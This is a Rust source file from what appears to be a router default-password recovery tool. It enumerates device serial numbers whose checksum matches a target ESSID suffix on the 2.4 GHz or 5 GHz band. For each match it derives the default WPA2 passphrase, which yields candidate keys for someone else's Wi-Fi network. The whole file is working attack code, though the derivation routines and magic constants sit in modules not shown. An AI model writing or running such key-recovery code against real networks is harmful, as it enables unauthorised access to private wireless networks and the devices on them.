/*!
 * Candidate serial enumeration
 *
 * The ESSID checksum encodes fewer bits than the serial, so a single
 * suffix maps to a handful of serials. The space is small enough to
 * enumerate exhaustively in well under a second, so the search is a
 * plain sequential filter-map over the Cartesian product of the fields.
 */

use serde::{Deserialize, Serialize};

use crate::checksum::{essid_checksum, SerialTuple};
use crate::crypto::{wpa2_passphrase, SerialMode};
use crate::params::KeygenParams;

/// One recovered (serial, passphrase) pair.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Candidate {
    pub serial: String,
    pub passphrase: String,
}

/// Enumerate every serial tuple in range and keep those whose checksum
/// matches the target on either band.
///
/// The nesting order (f0 outermost, f3 innermost) fixes the output
/// order; bounds are inclusive. A tuple matching either band is accepted
/// without recording which band hit. Zero matches is a valid outcome,
/// not an error.
pub fn search_candidates(target: u32, params: &KeygenParams) -> Vec<Candidate> {
    let [max0, max1, max2, max3] = params.field_max;
    let mut candidates = Vec::new();

    for f0 in 0..=max0 {
        for f1 in 0..=max1 {
            for f2 in 0..=max2 {
                for f3 in 0..=max3 {
                    let tuple = SerialTuple([f0, f1, f2, f3]);
                    if essid_checksum(&tuple, params.magic_24ghz, params) != target
                        && essid_checksum(&tuple, params.magic_5ghz, params) != target
                    {
                        continue;
                    }

                    let serial = tuple.to_string();
                    let passphrase = wpa2_passphrase(&serial, SerialMode::Forward, params);
                    candidates.push(Candidate { serial, passphrase });
                }
            }
        }
    }

    candidates
}
